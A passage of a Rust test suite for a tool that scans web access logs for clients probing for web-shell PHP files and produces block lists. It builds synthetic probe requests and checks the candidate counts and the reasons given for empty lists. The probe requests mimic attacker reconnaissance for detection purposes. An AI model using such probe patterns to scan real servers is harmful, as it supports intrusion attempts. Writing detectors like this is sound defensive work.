            "{client} - - [02/Nov/2026:08:01:00 +0000] \"GET /{name}.php HTTP/1.1\" {status} {bytes} \"-\" \"curl/8.5.0\"\n"
        )
    };
    SHELLS.into_iter().enumerate().map(line).collect()
}

#[test]
fn names_that_do_not_exist_are_no_ordinary_requests_of_a_prober() {
    let harness = Harness::new();
    let found = |log: &str| {
        let whole = listed(&harness, log, &[]);
        // The same from reports of parts of the log.
        let lines: Vec<_> = log.split_inclusive('\n').collect();
        let (even, odd): (Vec<_>, Vec<_>) = lines.iter().enumerate().partition(|(n, _)| n % 2 == 0);
        for (name, part) in [("even", even), ("odd", odd)] {
            harness.file(
                format!("{name}.log"),
                part.into_iter().map(|(_, line)| *line).collect::<String>(),
            );
            assert_eq!(
                harness
                    .run([
                        "scan",
                        "-f",
                        "json",
                        "-o",
                        &format!("{name}.json"),
                        &format!("{name}.log")
                    ])
                    .code,
                0
            );
        }
        let parts = entries(&block(
            &harness,
            &[&LONG[..], &["even.json", "odd.json"]].concat(),
        ));
        assert_eq!(parts, whole);
        whole
    };
    for status in [404, 403, 302, 301, 200] {
        assert_eq!(
            found(&(shells("203.0.113.9", status, |_| 500) + &others())),
            ["203.0.113.9"],
            "{status}"
        );
    }
    let page = |client: &str, path: &str| {
        format!(
            "{client} - - [02/Nov/2026:08:01:00 +0000] \"GET {path} HTTP/1.1\" 200 9120 \"-\" \"curl/8.5.0\"\n"
        )
    };
    // What it is given is ordinary, as are redirects of a site that does not redirect its probes.
    for log in [
        shells("203.0.113.9", 302, |_| 500) + &page("203.0.113.9", "/page/1"),
        shells("203.0.113.9", 200, |_| 500) + &page("203.0.113.9", "/page/1"),
        prober("203.0.113.9") + &line("203.0.113.9", "GET /old HTTP/1.1", 302),
    ] {
        assert_eq!(found(&(log + &others())), [""; 0]);
    }
    // A few probes among many requests for pages that are gone, as those of a search engine.
    let gone: String = (0..40)
        .map(|n| line("203.0.113.9", &format!("GET /gone/{n} HTTP/1.1"), 404))
        .collect();
    assert_eq!(
        found(&(prober("203.0.113.9") + &gone + &visitor("203.0.113.9", 45) + &others())),
        [""; 0]
    );
}

#[test]
fn an_empty_list_counts_candidates_by_reason() {
    let harness = Harness::new();
    let of = |clients: std::ops::Range<u32>, more: usize| {
        clients
            .map(|n| prober(&format!("203.0.113.{n}")) + &visitor(&format!("203.0.113.{n}"), more))
            .collect::<String>()
    };
    let log = of(0..4, 2) + &of(4..6, 5) + &others();
    let text = said(&harness, &log, &[]);
    let reasons = "the list is empty: 6 candidates: 4 sent ordinary requests (--max-cost), 2 sent more ordinary requests than probes";
    assert!(text.contains(reasons), "{text}");
    harness.file("access.log", of(0..3, 0) + &others());
    let run = harness.run(["block", "--ttl", "1h", "access.log"]);
    assert!(
        run.stderr
            .contains("the list is empty: 3 candidates: 3 last probed over 1h ago (--ttl)"),
        "{}",
        run.stderr
    );
    let run = block(
        &harness,
        &["--ttl", "1h", "--format", "abuseipdb", "access.log"],
    );
    assert!(
        run.stderr
            .contains("the list is empty: 3 candidates: 3 last probed over 1h ago (--ttl)"),
        "{}",
        run.stderr
    );
    let text = said(&harness, &others(), &["--format", "abuseipdb"]);
    assert!(
        text.contains("the list is empty: no client is a block candidate"),
        "{text}"
    );
}
